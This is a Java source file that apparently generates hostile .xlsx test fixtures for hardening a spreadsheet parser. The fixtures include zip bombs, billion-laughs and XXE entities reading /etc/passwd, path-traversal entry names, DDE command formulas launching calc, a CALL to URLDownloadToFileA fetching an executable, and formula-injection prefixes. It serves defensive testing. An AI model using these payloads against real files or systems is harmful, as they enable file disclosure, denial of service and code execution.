package org.ziping.hostile;

import static org.ziping.hostile.Package.SHEET;
import static org.ziping.hostile.Package.STRINGS;
import static org.ziping.hostile.Package.STYLES;
import static org.ziping.hostile.Package.WORKBOOK;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;

/** A good form made malicious in every way we know, by what was done to it. */
final class MaliciousWorkbooks {

    private static final String RELATIONS = "xl/_rels/workbook.xml.rels";
    private static final String DECLARATION = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";
    private static final String FIRST_SUM = "<f>ROUND(SUM(D7,D8,D9),6)</f>";
    private static final String RELATION_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    /** What patterns go over again and again. */
    static final List<String> REPEATED = List.of(
            "9",
            "1.",
            "1、",
            "（",
            "（1）",
            "；、，。",
            "≥90%；",
            "2023年",
            "2023-01-01至",
            " ",
            "　",
            ".",
            "万元",
            "1-",
            "12,",
            "“",
            "每",
            "每减少1%扣1分，",
            "扣1分",
            "得满分；",
            "&#10;",
            "😀",
            "a",
            "_x0041_",
            "1分（2分）",
            "%",
            "年1月",
            "不低于",
            "0");

    private static final int LONGEST_TEXT = 32_000;

    /** Of the shared texts the first belong to the head of the form. */
    private static final int HEAD_TEXTS = 36;

    private final Map<String, byte[]> files = new LinkedHashMap<>();

    private MaliciousWorkbooks() {}

    static Map<String, byte[]> all() {
        MaliciousWorkbooks all = new MaliciousWorkbooks();
        all.put("untouched", Package.form());
        all.bombs();
        all.entities();
        all.names();
        all.places();
        all.depths();
        all.formulas();
        all.texts();
        all.encodings();
        all.references();
        return all.files;
    }

    private void bombs() {
        put("bomb-in-sheet", Package.form().with(SHEET, blanks(200)));
        put("bomb-in-strings", Package.form().with(STRINGS, blanks(200)));
        put("bomb-beside", Package.form().with("docProps/core.xml", blanks(200)));
        put("bomb-in-content-types", Package.form().with("[Content_Types].xml", blanks(100)));
        put("bomb-under-the-limit", Package.form().with("xl/theme/theme1.xml", blanks(60)));
        Package many = Package.form();
        Map<String, byte[]> parts = new LinkedHashMap<>(many.parts());
        for (int part = 0; part < 65_000; part++) {
            parts.put("xl/media/" + part + ".png", new byte[0]);
        }
        put("many-parts", new Package(parts));
        parts.keySet().removeIf(name -> name.matches("xl/media/\\d{5}.*"));
        put("ten-thousand-parts", new Package(parts));
        put(
                "packed-in-itself",
                Package.form()
                        .with("xl/embeddings/oleObject1.bin", Package.form().bytes()));
    }

    private void entities() {
        String laughs = "<!DOCTYPE lolz [<!ENTITY a \"" + "ha".repeat(50) + "\"><!ENTITY b \"" + "&a;".repeat(50)
                + "\"><!ENTITY c \"" + "&b;".repeat(50) + "\"><!ENTITY d \"" + "&c;".repeat(50) + "\">]>";
        String outside = "<!DOCTYPE x [<!ENTITY d SYSTEM \"file:///etc/passwd\">]>";
        String remote =
                "<!DOCTYPE x SYSTEM \"http://127.0.0.1:9/evil.dtd\" [<!ENTITY % p SYSTEM \"http://127.0.0.1:9/p\"> %p;]>";
        for (String part :
                new String[] {SHEET, STRINGS, WORKBOOK, STYLES, RELATIONS, "[Content_Types].xml", "docProps/core.xml"
                }) {
            String shortName = part.replaceAll(".*/|\\W", "");
            put("laughs-" + shortName, declared(part, laughs, "&d;"));
            put("outside-" + shortName, declared(part, outside, "&d;"));
            put("remote-" + shortName, declared(part, remote, ""));
        }
    }

    /** With a document type before the root and a use of it in the last element. */
    private static Package declared(String part, String type, String use) {
        String text = Package.form().text(part).replaceFirst("<\\?xml[^>]*\\?>", "");
        int end = text.lastIndexOf("</");
        return Package.form().with(part, DECLARATION + type + text.substring(0, end) + use + text.substring(end));
    }

    private void names() {
        byte[] evil = "evil".getBytes(StandardCharsets.UTF_8);
        put("name-climbing", Package.form().with("../../../ziping-evil.txt", evil));
        put("name-climbing-windows", Package.form().with("..\\..\\ziping-evil.txt", evil));
        put("name-absolute", Package.form().with("/tmp/ziping-evil.txt", evil));
        put("name-drive", Package.form().with("C:\\ziping-evil.txt", evil));
        put("name-long", Package.form().with("xl/" + "n".repeat(60_000), evil));
        put("name-of-marks", Package.form().with("xl/\u0000\u0001\uFFFF?*|<>.xml", evil));
        put("name-twice", Package.form().with("XL/WORKBOOK.XML", Package.form().text(WORKBOOK)));
        put("name-with-slash-first", moved("/xl/worksheets/sheet1.xml"));
        put("name-with-backslashes", moved("xl\\worksheets\\sheet1.xml"));
        put("target-climbing", Package.form().altered(RELATIONS, "worksheets/sheet1.xml", "../../../../etc/passwd"));
        put(
                "target-remote",
                Package.form()
                        .altered(
                                RELATIONS,
                                "\"worksheets/sheet1.xml\"",
                                "\"http://127.0.0.1:9/s.xml\" TargetMode=\"External\""));
        put("target-itself", Package.form().altered(RELATIONS, "worksheets/sheet1.xml", "workbook.xml"));
        put("target-of-two", Package.form().altered(RELATIONS, "worksheets/sheet2.xml", "worksheets/sheet1.xml"));
        put("no-workbook", Package.form().without(WORKBOOK));
        put("no-styles", Package.form().without(STYLES));
        put("no-strings", Package.form().without(STRINGS));
        put("no-content-types", Package.form().without("[Content_Types].xml"));
        put(
                "sheet-name-of-marks",
                Package.form().altered(WORKBOOK, "name=\"填表说明\"", "name=\"../../[x]:*?&apos;&quot;\""));
        put("sheet-name-of-ours", Package.form().altered(WORKBOOK, "name=\"填表说明\"", "name=\"绩效自评汇总\""));
        put(
                "sheet-name-long",
                Package.form().altered(WORKBOOK, "name=\"填表说明\"", "name=\"" + "长".repeat(100_000) + "\""));
        put("sheets-many", Package.form().altered(WORKBOOK, "</sheets>", sheets(20_000) + "</sheets>"));
        put(
                "names-many",
                Package.form()
                        .altered(
                                WORKBOOK,
                                "</definedNames>",
                                "<definedName name=\"n\">自评表!$A$1</definedName>".repeat(200_000) + "</definedNames>"));
    }

    private static String sheets(int count) {
        StringBuilder sheets = new StringBuilder();
        for (int sheet = 10; sheet < count; sheet++) {
            sheets.append("<sheet name=\"s" + sheet + "\" sheetId=\"" + sheet + "\" r:id=\"rId6\"/>");
        }
        return sheets.toString();
    }

    private static Package moved(String name) {
        byte[] sheet = Package.form().parts().get(SHEET);
        return Package.form().without(SHEET).with(name, sheet);
    }

    private void places() {
        put("row-huge", inRows("<row r=\"4294967297\"><c r=\"A4294967297\"><v>1</v></c></row>"));
        put("row-last", inRows("<row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row>"));
        put("row-beyond", inRows("<row r=\"1048577\"><c r=\"A1048577\"><v>1</v></c></row>"));
        put("row-negative", inRows("<row r=\"-1\"><c r=\"A-1\"><v>1</v></c></row>"));
        put("column-beyond", inRows("<row r=\"99\"><c r=\"XFE99\"><v>1</v></c></row>"));
        put("column-endless", inRows("<row r=\"99\"><c r=\"" + "Z".repeat(100_000) + "99\"><v>1</v></c></row>"));
        put("row-twice", inRows("<row r=\"3\"><c r=\"A3\" t=\"str\"><v>又一行</v></c></row>"));
        put("cells-empty", inRows("<row r=\"99\">" + "<c/>".repeat(10_000_000) + "</row>"));
        put("rows-empty", inRows("<row/>".repeat(3_000_000)));
        put("rows-million", inRows(numbered(1_048_000)));
        put(
                "merged-all",
                Package.form()
                        .altered(
                                SHEET,
                                "<mergeCells",
                                "<mergeCells><mergeCell ref=\"A1:XFD1048576\"/></mergeCells><mergeCells"));
        put(
                "merged-many",
                Package.form()
                        .altered(
                                SHEET,
                                "</mergeCells>",
                                "<mergeCell ref=\"A500:B501\"/>".repeat(100_000) + "</mergeCells>"));
        put(
                "columns-many",
                Package.form()
                        .altered(
                                SHEET,
                                "</cols>",
                                "<col min=\"1\" max=\"16384\" width=\"9\"/>".repeat(100_000) + "</cols>"));
        put("style-beyond", Package.form().altered(SHEET, "s=\"1\"", "s=\"99999999\""));
        put("string-beyond", Package.form().altered(SHEET, "<v>5</v>", "<v>2147483648</v>"));
        put("string-negative", Package.form().altered(SHEET, "<v>5</v>", "<v>-1</v>"));
        put("number-endless", Package.form().altered(SHEET, "<v>25.0</v>", "<v>1" + "0".repeat(2_000_000) + "</v>"));
        put("number-huge", allNumbers("1E308"));
        put("number-tiny", allNumbers("1E-308"));
        put("number-beyond", allNumbers("1E999999999"));
        put("number-none", allNumbers("NaN"));
        put("number-wrong", allNumbers("--1..e5"));
        put(
                "formats-many",
                Package.form().altered(STYLES, "<cellXfs", "<!--" + "x".repeat(30_000_000) + "--><cellXfs"));
    }

    private static String numbered(int rows) {
        StringBuilder text = new StringBuilder();
        for (int row = 100; row < rows; row++) {
            text.append("<row r=\"").append(row).append("\"/>");
        }
        return text.toString();
    }

    private static Package allNumbers(String number) {
        String text = Package.form()
                .text(SHEET)
                .replaceAll("(t=\"n\"[^>]*>(?:<f>[^<]*</f>)?<v>)[^<]*</v>", "$1" + number + "</v>");
        return Package.form().with(SHEET, text);
    }

    private static Package inRows(String rows) {
        return Package.form().altered(SHEET, "</sheetData>", rows + "</sheetData>");
    }

    private void depths() {
        put("deep-in-sheet", inRows("<row r=\"99\">".repeat(500_000)));
        put(
                "deep-closed",
                Package.form()
                        .altered(
                                SHEET,
                                "</worksheet>",
                                "<e>".repeat(100_000) + "</e>".repeat(100_000) + "</worksheet>"));
        put(
                "deep-in-string",
                Package.form()
                        .altered(
                                STRINGS,
                                "<si><t>",
                                "<si>" + "<r>".repeat(200_000) + "<t>x</t>" + "</r>".repeat(200_000) + "</si><si><t>"));
        put(
                "deep-in-styles",
                Package.form()
                        .altered(STYLES, "<cellXfs", "<e>".repeat(100_000) + "</e>".repeat(100_000) + "<cellXfs"));
        put(
                "attributes-many",
                Package.form().altered(SHEET, "<sheetData>", "<x " + attributes(300_000) + "/><sheetData>"));
        put(
                "namespaces-many",
                Package.form()
                        .altered(
                                SHEET,
                                "<worksheet ",
                                "<worksheet " + attributes(100_000).replace(" a", " xmlns:a") + " "));
        put("comment-endless", Package.form().altered(SHEET, "<sheetData>", "<!--" + "-x".repeat(10_000_000)));
        put(
                "instruction",
                Package.form().altered(SHEET, "<sheetData>", "<?php " + "x".repeat(1_000_000) + "?><sheetData>"));
    }

    private static String attributes(int count) {
        StringBuilder attributes = new StringBuilder();
        for (int at = 0; at < count; at++) {
            attributes.append(" a").append(at).append("=\"1\"");
        }
        return attributes.toString();
    }

    private void formulas() {
        formula("cyclic", "D6+1");
        formula("cyclic-far", "D7+F6");
        formula("web", "WEBSERVICE(\"http://127.0.0.1:9/\"&amp;A1)");
        formula("external", "SUM('[1]外部'!A1:A9)");
        formula("external-path", "'\\\\127.0.0.1\\share\\[x.xlsx]s'!A1");
        formula("dde", "cmd|'/C calc.exe'!A0");
        formula("hyperlink", "HYPERLINK(\"http://127.0.0.1:9/\",\"点这里\")");
        formula(
                "call",
                "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://127.0.0.1:9\",\"c:\\x.exe\",0,0)");
        formula("indirect", "INDIRECT(\"A1:XFD1048576\")");
        formula("sum-of-all", "SUM(A1:XFD1048576)+SUM(A:XFD)+SUM(1:1048576)");
        formula("repeated", "REPT(\"x\",2147483647)");
        formula("repeated-twice", "LEN(REPT(REPT(\"x\",32767),32767))");
        formula("power", "9^9^9^9^9");
        formula("deep", "(".repeat(30_000) + "1" + ")".repeat(30_000));
        formula("deep-calls", "ABS(".repeat(8_000) + "1" + ")".repeat(8_000));
        formula("deep-signs", "-".repeat(30_000) + "1");
        formula("long", "1" + "+1".repeat(500_000));
        formula("rounded-far", "ROUND(1/3,2000000000)");
        formula("broken", "SUM((((");
        formula("unknown", "_xlfn.LAMBDA(_xlpm.x,_xlpm.x(_xlpm.x))(1)");
        formula("of-markup", "&lt;script&gt;alert(1)&lt;/script&gt;");
        put("formula-chain", inRows(chain(40_000)));
        put(
                "formula-shared-far",
                Package.form().altered(SHEET, FIRST_SUM, "<f t=\"shared\" ref=\"A1:XFD1048576\" si=\"0\">D7+1</f>"));
        put(
                "formula-array-far",
                Package.form().altered(SHEET, FIRST_SUM, "<f t=\"array\" ref=\"A1:XFD1048576\">D7+1</f>"));
        put(
                "formula-table",
                Package.form()
                        .altered(
                                SHEET,
                                FIRST_SUM,
                                "<f t=\"dataTable\" ref=\"A1:XFD1048576\" dt2D=\"1\" r1=\"A1\" r2=\"A2\"/>"));
    }

    private void formula(String name, String formula) {
        put("formula-" + name, Package.form().altered(SHEET, FIRST_SUM, "<f>" + formula + "</f>"));
    }

    /** Each cell is the one above it and one more; the form's total asks for the last. */
    private static String chain(int rows) {
        StringBuilder text = new StringBuilder();
        for (int row = 100; row < 100 + rows; row++) {
            text.append("<row r=\"" + row + "\"><c r=\"A" + row + "\"><f>A" + (row + 1) + "+1</f><v>1</v></c></row>");
        }
        return text.toString();
    }

    private void texts() {
        String[] openings = {"=", "+", "-", "@", "\t=", "\r=", "'=", "＝"};
        for (int at = 0; at < openings.length; at++) {
            put("text-as-formula-" + at, everyText(openings[at] + "cmd|'/C calc'!A0 "));
        }
        put("name-as-formula", Package.form().altered(STRINGS, "<t>公共体育场馆开放服务</t>", "<t>=cmd|'/C calc'!A0</t>"));
        put("text-long", Package.form().altered(STRINGS, "<t>公共体育场馆开放服务</t>", "<t>" + "长".repeat(3_000_000) + "</t>"));
        put("text-long-everywhere", everyText("长".repeat(40_000)));
        for (int kind = 0; kind < REPEATED.size(); kind++) {
            String piece = REPEATED.get(kind);
            String text = piece.repeat(LONGEST_TEXT / piece.length());
            put("text-repeated-" + kind, everyText(text));
            put("text-repeated-in-values-" + kind, everyValue(text));
        }
        put("text-of-control", everyText("_x0000__x0008_&#9;&#10;&#13;\uFFFD\u202E\u200B\u0300".repeat(50)));
        put("text-of-emoji", everyText("😀𠮷".repeat(20_000)));
        put("text-of-markup", everyText("&lt;/t&gt;&lt;/si&gt;&amp;amp;]]&gt;&lt;![CDATA[ {{标签}} ${x} %s %n \\u0041 "));
    }

    /** With something before every text of the form that is neither a label nor a number. */
    private static Package everyText(String before) {
        String text = Package.form().text(STRINGS);
        StringBuilder changed = new StringBuilder();
        for (String piece : text.split("(?<=<t>)")) {
            boolean isLong = piece.indexOf('<') > 8 && !piece.startsWith("<");
            changed.append(isLong ? before : "").append(piece);
        }
        return Package.form().with(STRINGS, changed.toString());
    }

    /** With something before every text below the head of the form. */
    private static Package everyValue(String before) {
        StringBuilder changed = new StringBuilder();
        int number = 0;
        for (String piece : Package.form().text(STRINGS).split("(?<=<si>)")) {
            changed.append(
                    number++ > HEAD_TEXTS
                            ? piece.replaceFirst("<t>", "<t>" + Matcher.quoteReplacement(before))
                            : piece);
        }
        return Package.form().with(STRINGS, changed.toString());
    }

    private void encodings() {
        byte[] strings = Package.form().parts().get(STRINGS);
        byte[] wrong = strings.clone();
        Arrays.fill(wrong, 300, 330, (byte) 0xFF);
        put("utf8-wrong", Package.form().with(STRINGS, wrong));
        byte[] overlong = strings.clone();
        overlong[300] = (byte) 0xC0;
        overlong[301] = (byte) 0x80;
        put("utf8-overlong", Package.form().with(STRINGS, overlong));
        String text = Package.form().text(STRINGS);
        String other = text.replace("UTF-8", "UTF-16");
        put("utf16", Package.form().with(STRINGS, other.getBytes(StandardCharsets.UTF_16)));
        put("utf16-said-only", Package.form().with(STRINGS, other));
        put("utf16-odd", Package.form().with(STRINGS, Arrays.copyOf(other.getBytes(StandardCharsets.UTF_16), 9_999)));
        put(
                "utf16-half-pairs",
                Package.form().with(STRINGS, other.replace("公共", "\uD800\uD800").getBytes(StandardCharsets.UTF_16)));
        put("utf7", Package.form().with(STRINGS, text.replace("UTF-8", "UTF-7")));
        for (String part : List.of(SHEET, STYLES, WORKBOOK)) {
            String stem = part.substring(part.lastIndexOf('/') + 1);
            byte[] bytes = Package.form().parts().get(part).clone();
            Arrays.fill(bytes, bytes.length / 2, bytes.length / 2 + 3, (byte) 0xFF);
            put("utf8-wrong-in-" + stem, Package.form().with(part, bytes));
            put("encoding-none-in-" + stem, Package.form().altered(part, "UTF-8", "*"));
        }
        put("encoding-unknown", Package.form().with(STRINGS, text.replace("UTF-8", "x-" + "y".repeat(100_000))));
        put(
                "xml-1.1",
                Package.form().with(SHEET, Package.form().text(SHEET).replace("version=\"1.0\"", "version=\"1.1\"")));
        put("zeros-in-sheet", Package.form().with(SHEET, new byte[5_000]));
        put("empty-sheet", Package.form().with(SHEET, ""));
        put("empty-strings", Package.form().with(STRINGS, ""));
    }

    private void references() {
        put("drawing-remote", related("drawing", "http://127.0.0.1:9/d.xml", "<drawing r:id=\"rIdX\"/>"));
        put("drawing-missing", related("drawing", "../drawings/none.xml", "<drawing r:id=\"rIdX\"/>"));
        put("comments-missing", related("comments", "../none.xml", ""));
        put("comments-blank", related("comments", "../comments1.xml", "").with("xl/comments1.xml", "   "));
        put("comments-bomb", related("comments", "../comments1.xml", "").with("xl/comments1.xml", blanks(63)));
        put(
                "external-book",
                Package.form()
                        .altered(
                                RELATIONS,
                                "</Relationships>",
                                "<Relationship Id=\"rIdX\" Type=\"" + RELATION_TYPE
                                        + "externalLink\" Target=\"externalLinks/externalLink1.xml\"/></Relationships>")
                        .altered(
                                WORKBOOK,
                                "<definedNames>",
                                "<externalReferences><externalReference r:id=\"rIdX\"/></externalReferences><definedNames>")
                        .with(
                                "xl/externalLinks/externalLink1.xml",
                                "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/C calc\"/></externalLink>")
                        .with(
                                "xl/externalLinks/_rels/externalLink1.xml.rels",
                                "<Relationships><Relationship Id=\"rId1\" Type=\"x\" Target=\"http://127.0.0.1:9/x.xlsx\" TargetMode=\"External\"/></Relationships>"));
        put("ids-twice", Package.form().altered(RELATIONS, "Id=\"rId5\"", "Id=\"rId4\""));
        put(
                "style-count-wrong",
                Package.form()
                        .with(
                                STYLES,
                                Package.form().text(STYLES).replaceAll("count=\"\\d+\"", "count=\"2147483647\"")));
        put(
                "strings-count-wrong",
                Package.form()
                        .with(
                                STRINGS,
                                Package.form().text(STRINGS).replaceAll("ount=\"\\d+\"", "ount=\"2147483647\"")));
        put("dimension-wrong", Package.form().altered(SHEET, "A1:L21", "A1:XFD1048576"));
    }

    private static Package related(String type, String target, String inSheet) {
        String mode = target.startsWith("http") ? "\" TargetMode=\"External" : "";
        return Package.form()
                .altered(SHEET, "</worksheet>", inSheet + "</worksheet>")
                .altered(
                        SHEET,
                        "<worksheet ",
                        "<worksheet xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" ")
                .with(
                        "xl/worksheets/_rels/sheet1.xml.rels",
                        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rIdX\" Type=\""
                                + RELATION_TYPE + type + "\" Target=\"" + target + mode + "\"/></Relationships>");
    }

    private void put(String name, Package hostile) {
        files.put(name + ".xlsx", hostile.bytes());
    }

    static byte[] blanks(int megabytes) {
        byte[] blanks = new byte[megabytes << 20];
        Arrays.fill(blanks, (byte) ' ');
        return blanks;
    }
}
